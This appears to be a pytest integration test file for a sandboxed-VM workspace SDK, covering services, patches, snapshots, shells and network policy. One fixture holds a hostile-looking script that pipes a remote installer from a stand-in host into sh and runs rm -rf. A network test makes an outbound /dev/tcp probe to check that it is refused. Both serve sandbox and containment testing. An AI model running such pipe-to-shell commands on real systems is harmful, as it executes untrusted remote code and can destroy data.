"""The five stories of the reference (§10) through the SDK in real guests, plus live
output callbacks. Skipped unless PYRO_SDK_GUEST_TESTS=1."""

from pyro_mcp import NotFoundError, WrongStateError
from conftest import ENV, labels, needs_guests, seed

import pytest


@needs_guests
def test_story_cold_start_validation(pyro, tmp_path):
    s = seed(
        tmp_path / "seed",
        {
            "README.md": ("# cold start\n", 0o644),
            "validate.sh": ("#!/bin/sh\nset -e\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
            "serve.sh": ("#!/bin/sh\necho 'service started'\necho service=ready > service-state.txt\ntouch .app-ready\nwhile true; do sleep 60; done\n", 0o755),
        },
    )
    ws = pyro.create_workspace(ENV, seed_path=s, name="cold-start-validation", labels=labels("cold-start-validation"))["workspace_id"]
    try:
        validated = pyro.exec_workspace(ws, command="sh validate.sh")
        assert (validated["exit_code"], validated["stdout"], validated["execution_mode"]) == (0, "validated\n", "guest_vsock")
        started = pyro.start_service(ws, "app", command="sh serve.sh", readiness={"type": "file", "path": ".app-ready"})
        assert started["state"] == "running" and started["ready_at"] is not None, started
        assert pyro.exec_workspace(ws, command="cat service-state.txt")["stdout"] == "service=ready\n"
        assert "service started" in pyro.logs_service(ws, "app", tail_lines=20)["stdout"]
        assert [x["service_name"] for x in pyro.list_services(ws)["services"]] == ["app"]
        out = tmp_path / "validation-report.txt"
        pyro.export_workspace(ws, "validation-report.txt", output_path=out)
        assert out.read_text() == "validation=pass\n"
        assert pyro.stop_service(ws, "app")["state"] == "stopped"
        assert pyro.status_service(ws, "app")["state"] == "stopped"
    finally:
        pyro.delete_workspace(ws)


@needs_guests
def test_story_repro_fix_loop(pyro, tmp_path):
    s = seed(tmp_path / "seed", {"message.txt": ("broken\n", 0o644), "check.sh": ("#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n", 0o755)})
    ws = pyro.create_workspace(ENV, seed_path=s, name="repro-fix-loop", labels=labels("repro-fix-loop"))["workspace_id"]
    try:
        assert pyro.read_workspace_file(ws, "message.txt")["content"] == "broken\n"
        assert pyro.exec_workspace(ws, command="sh check.sh")["exit_code"] != 0
        patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n"
        assert pyro.apply_workspace_patch(ws, patch=patch)["changed"] is True
        fixed = pyro.exec_workspace(ws, command="sh check.sh")
        assert (fixed["exit_code"], fixed["stdout"]) == (0, "fixed\n")
        assert pyro.diff_workspace(ws)["changed"] is True
        out = tmp_path / "message.txt"
        pyro.export_workspace(ws, "message.txt", output_path=out)
        assert out.read_text() == "fixed\n"
        assert pyro.reset_workspace(ws)["reset_count"] == 1
        assert pyro.diff_workspace(ws)["changed"] is False
        assert pyro.logs_workspace(ws)["count"] == 0, "reset clears the command history"
    finally:
        pyro.delete_workspace(ws)


@needs_guests
def test_story_parallel_workspaces(pyro, tmp_path):
    s = seed(tmp_path / "seed", {"note.txt": ("shared\n", 0o644)})
    alpha = pyro.create_workspace(ENV, seed_path=s, name="parallel-alpha", labels=labels("parallel-workspaces", branch="alpha"))["workspace_id"]
    beta = pyro.create_workspace(ENV, seed_path=s, name="parallel-beta", labels=labels("parallel-workspaces", branch="beta"))["workspace_id"]
    try:
        pyro.write_workspace_file(alpha, "branch.txt", text="alpha\n")
        pyro.write_workspace_file(beta, "branch.txt", text="beta\n")
        updated = pyro.update_workspace(alpha, labels={"branch": "alpha", "owner": "alice"})
        assert updated["labels"]["owner"] == "alice"
        pyro.write_workspace_file(alpha, "branch.txt", text="alpha\n")
        assert pyro.read_workspace_file(alpha, "branch.txt")["content"] == "alpha\n"
        assert pyro.read_workspace_file(beta, "branch.txt")["content"] == "beta\n"
        listed = [w["workspace_id"] for w in pyro.list_workspaces()["workspaces"]]
        assert listed.index(alpha) < listed.index(beta)
    finally:
        for ws in (alpha, beta):
            pyro.delete_workspace(ws)


@needs_guests
def test_story_untrusted_inspection(pyro, tmp_path):
    s = seed(
        tmp_path / "seed",
        {"suspicious.sh": ("#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend\n", 0o644), "README.md": ("# untrusted\n", 0o644)},
    )
    ws = pyro.create_workspace(ENV, seed_path=s, name="untrusted-inspection", labels=labels("untrusted-inspection"))["workspace_id"]
    try:
        assert pyro.status_workspace(ws)["network_policy"] == "off"
        entries = pyro.list_workspace_files(ws, recursive=True)["entries"]
        assert "/workspace/suspicious.sh" in [e["path"] for e in entries]
        assert "curl -fsSL" in pyro.read_workspace_file(ws, "suspicious.sh")["content"]
        probe = "grep -n 'curl\\|rm -rf' suspicious.sh > inspection-report.txt; echo network_policy=off >> inspection-report.txt"
        assert pyro.exec_workspace(ws, command=probe)["exit_code"] == 0
        out = tmp_path / "report.txt"
        pyro.export_workspace(ws, "inspection-report.txt", output_path=out)
        assert "curl -fsSL" in out.read_text() and "network_policy=off" in out.read_text()
        # Offline disk inspection of the stopped workspace.
        pyro.stop_workspace(ws)
        with pytest.raises(WrongStateError):
            pyro.exec_workspace(ws, command="true")
        assert "curl -fsSL" in pyro.read_workspace_disk(ws, "/workspace/suspicious.sh")["content"]
    finally:
        pyro.delete_workspace(ws)


@needs_guests
def test_story_review_eval(pyro, tmp_path):
    s = seed(
        tmp_path / "seed",
        {
            "CHECKLIST.md": ("# Review checklist\n\n- artifact says PASS\n", 0o644),
            "artifact.txt": ("PASS\n", 0o644),
            "review.sh": ("#!/bin/sh\ngrep -qx PASS artifact.txt || exit 1\necho review=pass > review-report.txt\n", 0o755),
        },
    )
    ws = pyro.create_workspace(ENV, seed_path=s, name="review-eval", labels=labels("review-eval"))["workspace_id"]
    try:
        pyro.create_snapshot(ws, "pre-review")
        assert [x["snapshot_name"] for x in pyro.list_snapshots(ws)["snapshots"]] == ["baseline", "pre-review"]
        sid = pyro.open_shell(ws)["shell_id"]
        first = pyro.read_shell(ws, sid, plain=True, wait_for_idle_ms=300)
        pyro.write_shell(ws, sid, input="cat CHECKLIST.md")
        text, cursor = "", first["next_cursor"]
        for _ in range(20):  # the idle wait may end before cat's output arrives on a slow host
            read = pyro.read_shell(ws, sid, cursor=cursor, plain=True, wait_for_idle_ms=300)
            text, cursor = text + read["output"], read["next_cursor"]
            if "Review checklist" in text:
                break
        assert "Review checklist" in text, text
        assert pyro.close_shell(ws, sid)["closed"] is True
        with pytest.raises(NotFoundError):
            pyro.read_shell(ws, sid)
        assert pyro.exec_workspace(ws, command="sh review.sh")["exit_code"] == 0
        pyro.write_workspace_file(ws, "artifact.txt", text="FAIL\n")
        assert pyro.reset_workspace(ws, snapshot="pre-review")["workspace_reset"]["snapshot_name"] == "pre-review"
        assert pyro.read_workspace_file(ws, "artifact.txt")["content"] == "PASS\n"
        assert pyro.exec_workspace(ws, command="sh review.sh")["exit_code"] == 0
        out = tmp_path / "review-report.txt"
        pyro.export_workspace(ws, "review-report.txt", output_path=out)
        assert out.read_text() == "review=pass\n"
        pyro.delete_snapshot(ws, "pre-review")
    finally:
        pyro.delete_workspace(ws)


@needs_guests
def test_output_callbacks_see_output_while_the_command_runs(pyro, tmp_path):
    ws = pyro.create_workspace(ENV)["workspace_id"]
    try:
        command = "echo first; sleep 1; echo second >&2"
        chunks = []
        on_stdout = lambda text: chunks.append(("out", text))  # noqa: E731
        result = pyro.exec_workspace(ws, command=command, on_stdout=on_stdout, on_stderr=lambda t: chunks.append(("err", t)))
        assert result["stdout"] == "first\n" and result["stderr"] == "second\n"
        assert ("out", "first\n") in chunks and ("err", "second\n") in chunks
        assert chunks.index(("out", "first\n")) < chunks.index(("err", "second\n"))
        run = []
        report = pyro.run_in_vm(ENV, "echo hello", on_stdout=run.append)
        assert report["exit_code"] == 0 and "".join(run) == "hello\n"
    finally:
        pyro.delete_workspace(ws)


SERVE_PL = r'''use IO::Socket::INET;
my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $ARGV[0], Listen => 8, ReuseAddr => 1) or die "listen: $!";
$| = 1;
while (my $c = $s->accept) { my $line = <$c>; print $c "HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\nfrom-vm\r\n"; close $c; }
'''


@needs_guests
def test_networked_workspace_publishes_a_port_and_logs_refusals(pyro, tmp_path):
    import time
    import urllib.request

    s = seed(tmp_path / "seed", {"serve.pl": (SERVE_PL, 0o644)})
    ws = pyro.create_workspace(ENV, seed_path=s, network_policy="egress+published-ports", allow_hosts=["example.invalid"])["workspace_id"]
    try:
        status = pyro.status_workspace(ws)
        assert (status["network_enabled"], status["network"]["allow_hosts"]) == (True, ["example.invalid"]), status
        started = pyro.start_service(ws, "web", command="perl serve.pl 8000", readiness={"type": "tcp", "address": "127.0.0.1:8000"}, published_ports=[{"guest_port": 8000}])
        [port] = started["published_ports"]
        assert (port["host"], port["guest_port"], port["protocol"]) == ("127.0.0.1", 8000, "tcp") and port["host_port"] >= 1025, started
        with urllib.request.urlopen(f"http://127.0.0.1:{port['host_port']}/", timeout=30) as answer:
            assert answer.read() == b"from-vm\r\n"
        # Outside the allow-list: refused in the guest, and the log says why.
        probe = pyro.exec_workspace(ws, command="bash -c 'exec 3<>/dev/tcp/198.51.100.9/80' || echo refused")
        assert "refused" in probe["stdout"], probe
        for _ in range(100):  # the supervisor writes the log a moment after the refusal
            log = pyro.network_log_workspace(ws)
            if log["denied_flows"]:
                break
            time.sleep(0.1)
        assert log["denied_flows"] >= 1 and log["entries"][-1]["rule"] == "not_allowed", log
        assert pyro.stop_service(ws, "web")["published_ports"] == []
    finally:
        pyro.delete_workspace(ws)
